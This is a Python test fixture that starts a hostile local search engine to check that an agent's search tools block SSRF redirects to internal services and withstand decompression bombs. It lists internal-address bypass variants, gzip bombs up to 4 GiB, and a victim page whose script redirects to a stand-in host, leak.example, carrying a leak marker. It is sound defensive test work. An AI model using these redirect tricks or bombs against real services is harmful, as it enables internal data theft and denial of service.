"""A hostile search engine on 127.0.0.1, shared by the tests and ``bench/bench_attacks_search.py``.

Its results pages and API answers redirect to an internal service (a victim on another
port of 127.0.0.1, or the :class:`~attack_web.Trap` on 127.0.0.2), its Sogou pages link
to "link pages" on those services (whose body would come back as a result URL), and its
answers are decompression bombs or simply too large. Each attack is one route under a
prefix of its own; :meth:`HostileEngine.aim` points one source at it, as a user's
``QUARTET_<SOURCE>_URL`` would. Nothing leaves the machine.
"""

from __future__ import annotations

import html
import itertools
from collections.abc import Callable
from typing import Any

from attack_web import Trap, encoded, gzip_gzip_bomb, gzip_members, redirect_to
from browser_sites import Handler, SiteServer, chunked, page

from subagents.settings import NetworkPolicy, ToolSettings

#: Text only the internal services serve; a result or reason holding it leaked their body.
LEAK = "internal-victim-body-5e1f"
VICTIM_PAGE = (
    f'<html><body><p>{LEAK}</p><script>window.location.replace("https://leak.example/?{LEAK}")'
    f'</script><meta http-equiv="refresh" content="0;URL=\'https://leak.example/?{LEAK}\'">'
    "</body></html>"
).encode()
#: Seconds a search request may take here (generous: the machine may be loaded).
TIMEOUT = 10.0

#: Per search tool: the source name and the path its request takes below the base URL.
SOURCES = {
    "search_google": ("google", "/search"),
    "search_bing": ("bing", "/search"),
    "search_wiki": ("wiki", "/w/api.php"),
    "search_github": ("github", "/search/repositories"),
    "search_sogou": ("sogou", "/web"),
}
#: Redirect targets, by name, as functions of the engine (all internal).
REDIRECTS: dict[str, Callable[[HostileEngine], str]] = {
    "another port of 127.0.0.1": lambda e: e.victim.url("/secret"),
    "localhost by name": lambda e: f"http://localhost:{e.victim.port}/secret",
    "127.0.0.2": lambda e: e.trap.url("/secret"),
    "IPv4-mapped IPv6": lambda e: f"http://[::ffff:127.0.0.1]:{e.victim.port}/secret",
    "after a hop on the engine": lambda e: e.hop_to(e.victim.url("/secret")),
}
#: Sogou result links, by name: ``(href, the page the engine serves at /link or None)``.
#: Link pages on an internal service must not be fetched; the engine's own link page may
#: be, but its redirect only names the result's URL, it is never followed.
SOGOU_LINKS: dict[str, Callable[[HostileEngine], tuple[str, Handler | None]]] = {
    "link page on another port": lambda e: (e.victim.url("/link?url=abc"), None),
    "link page on 127.0.0.2": lambda e: (e.trap.url("/link?url=abc"), None),
    "link page by localhost": lambda e: (f"http://localhost:{e.victim.port}/link?url=a", None),
    "own link page redirecting inside": lambda e: (
        "/link?url=abc",
        redirect_to(e.victim.url("/secret")),
    ),
}
MiB = 1024 * 1024


def sogou_results(*hrefs: str) -> bytes:
    """A Sogou results page with one result per href (no ``data-url``, so each is resolved)."""
    blocks = "".join(
        f'<div class="vrwrap"><h3 class="vr-title"><a href="{html.escape(h)}">Solar result {n}'
        f'</a></h3><div class="space-txt">Solar power snippet {n}.</div></div>'
        for n, h in enumerate(hrefs)
    )
    return (
        '<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><div id="main">'
        f'<div class="results">{blocks}</div></div></body></html>'
    ).encode()


def google_results(url: str = "https://example.org/solar") -> bytes:
    """A Google results page with one result."""
    return (
        '<html><body><div id="rso"><div class="g"><a href="'
        f'{html.escape(url)}"><h3>Solar power</h3></a><div class="VwiC3b">Solar power '
        "is energy from sunlight.</div></div></div></body></html>"
    ).encode()


def bombs() -> dict[str, Handler]:
    """Decompression bombs and oversized answers, by name."""
    return {
        "gzip, 1 MB → 1 GiB": encoded(gzip_members(), "gzip"),
        "gzip inside gzip → 4 GiB": encoded(gzip_gzip_bomb(), "gzip, gzip"),
        "gzip JSON → 1 GiB": encoded(gzip_members(), "gzip", "application/json"),
        "6 MiB page, no encoding": page(b"<html><body>" + b"<p>solar</p>" * (6 * MiB // 12)),
        "chunked 64 MiB": chunked(64 * MiB),
    }


class HostileEngine:
    """The engine, the victim on another port and the trap on 127.0.0.2, started together."""

    def __init__(self) -> None:
        self.engine = SiteServer().start()
        self.victim = SiteServer().start()
        for path in ("/secret", "/link", "/api.php"):
            self.victim.routes[path] = page(VICTIM_PAGE)
        self.trap = Trap().start()
        self._names = itertools.count()

    def __enter__(self) -> HostileEngine:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def stop(self) -> None:
        self.engine.stop()
        self.victim.stop()
        self.trap.stop()

    def reached(self) -> int:
        """Requests and connections the internal services have had so far."""
        return len(self.victim.hits) + len(self.trap.connections)

    def _prefix(self) -> str:
        return f"/a{next(self._names)}"

    def hop_to(self, target: str) -> str:
        """A URL on the engine that redirects to ``target``."""
        path = self._prefix() + "/hop"
        self.engine.routes[path] = redirect_to(target)
        return self.engine.url(path)

    def aim(
        self, tool: str, handler: Handler, links: Handler | None = None, **changes: Any
    ) -> ToolSettings:
        """Serve ``handler`` where ``tool`` sends its request; settings aiming it there.

        ``links`` serves the Sogou link pages (``/link``) below the same base.
        """
        source, path = SOURCES[tool]
        prefix = self._prefix()
        self.engine.routes[prefix + path] = handler
        if links is not None:
            self.engine.routes[prefix + "/link"] = links
        return ToolSettings(
            **{
                "endpoints": {source: self.engine.url(prefix)},
                "search_timeout": TIMEOUT,
                **changes,
            }
        )

    def redirecting(self, tool: str, target: str, **changes: Any) -> ToolSettings:
        """Settings aiming ``tool`` at a route that redirects to ``target``."""
        return self.aim(tool, redirect_to(target), **changes)

    def sogou_linking(self, name: str, **changes: Any) -> ToolSettings:
        """Settings aiming search_sogou at a results page whose one result is the link
        :data:`SOGOU_LINKS` names ``name``."""
        href, links = SOGOU_LINKS[name](self)
        return self.aim("search_sogou", page(sogou_results(href)), links, **changes)


def allowing(*ports: int) -> NetworkPolicy:
    """A network policy exempting 127.0.0.1 on ``ports`` only (as QUARTET_ALLOW_HOSTS would)."""
    return NetworkPolicy.parse(",".join(f"127.0.0.1:{p}" for p in ports))
